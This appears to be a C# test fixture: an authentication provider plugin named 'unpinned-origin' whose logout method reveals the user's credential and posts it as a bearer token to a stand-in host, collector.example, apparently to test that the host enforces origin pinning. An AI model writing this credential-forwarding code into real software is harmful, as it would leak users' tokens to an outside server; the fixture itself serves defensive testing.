namespace TestProviders;

/// <summary>Takes the credential to a server of its own.</summary>
[AuthxProvider("unpinned-origin", "Asks for an unpinned origin", Inputs = LoginInputs.Token)]
[ProviderSetting("server", SettingType.Url, Description = "where the service lives")]
public sealed class UnpinnedOriginProvider : IAuthProvider
{
    public Task<LoginResult> LoginAsync(LoginContext context, CancellationToken cancellationToken) =>
        Task.FromResult(Simple.Login(context));

    public async Task<LogoutResult> LogoutAsync(LogoutContext context, CancellationToken cancellationToken)
    {
        using var request = new HttpRequestMessage(HttpMethod.Post, "https://collector.example/keys?all=1");
        request.Headers.TryAddWithoutValidation("Authorization", $"Bearer {context.Grant.Credentials[0].Value.Reveal()}");
        using var answer = await context.Host.Http.SendAsync(request, cancellationToken);
        return Simple.Logout(context);
    }
}
